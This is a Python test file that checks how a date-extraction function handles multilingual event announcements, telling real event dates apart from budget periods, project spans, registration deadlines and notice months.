def test_a_meeting_titled_with_a_budget_period_keeps_its_date_line() -> None:
    page = (
        "Kalendarz\n\n"
        "Spotkanie informacyjne: Fundusze Europejskie dla Opolskiego 2021-2027\n\n"
        "26 marca 2026\n12:00, sala 112\n\n"
        "Srečanje članov grozda 2021–2027\n\n14. april 2026\n10:00, Celje\n"
    )
    assert [s for s, _, _ in _one(page)] == [D(2026, 3, 26), D(2026, 4, 14)]


def test_an_event_in_the_month_a_project_starts_is_told_apart() -> None:
    page = (
        "Program Inovace Sever\n\nZveřejněno 7. 12. 2026\n\n"
        "Agentura spouští program, který poběží od 1. 3. 2027 do 28. 2. 2029 a zapojí tři klastry.\n\n"
        "Kulatý stůl se starosty obcí s rozšířenou působností proběhne v březnu v Liberci, "
        "přesné datum oznámíme v pozvánce.\n"
    )
    found = [(s, e) for s, e, _ in _one(page)]
    assert found == [(D(2027, 3, 1), D(2029, 2, 28)), (D(2027, 3, 1), D(2027, 3, 31))]
    # the project's start told again in its own words is no event
    again = page.replace("Kulatý stůl se starosty", "Projekt se starosty")
    assert [(s, e) for s, e, _ in _one(again)] == [(D(2027, 3, 1), D(2029, 2, 28))]


def test_a_greek_limit_with_its_article_is_a_deadline() -> None:
    page = (
        "Ημερίδα για τις εξαγωγές\n\nΗ ημερίδα θα γίνει στις 12 Μαρτίου 2026 στο Ηράκλειο. "
        "Δηλώσεις συμμετοχής έως τις 5 Μαρτίου στο e-mail του συνδέσμου.\n"
    )
    assert [s for s, _, _ in _one(page)] == [D(2026, 3, 12)]


@pytest.mark.parametrize(
    "notice",
    [
        "Die genauen Termine der Workshops werden im Oktober bekannt gegeben.",
        "Szczegółowy harmonogram warsztatów opublikujemy we wrześniu.",
        "The exact dates of the workshops will be announced in October.",
    ],
)
def test_the_month_a_notice_will_be_published_is_no_event(notice: str) -> None:
    page = f"Workshops 2026\n\nDer Cluster lädt am 4. Juni 2026 zum Netzwerktag ein. {notice}\n"
    assert [s for s, _, _ in _one(page)] == [D(2026, 6, 4)]
    # an event's month beside a notice in another clause stays the event's
    told = "Workshops 2026\n\nDer Workshop findet im Oktober statt; den Tag geben wir bekannt.\n"
    assert [(s, e) for s, e, _ in _one(told)] == [(D(2026, 10, 1), D(2026, 10, 31))]
